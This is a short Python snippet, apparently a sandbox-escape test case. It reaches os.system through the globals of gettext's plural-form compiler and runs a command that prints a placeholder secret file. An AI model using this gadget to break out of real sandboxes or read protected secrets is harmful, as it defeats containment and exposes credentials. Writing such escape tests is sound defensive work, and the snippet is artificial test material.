# gettext compiles plural forms to a function by exec.
# effect: run
import gettext
gettext.c2py.__globals__["os"].system("cat @SECRET@")
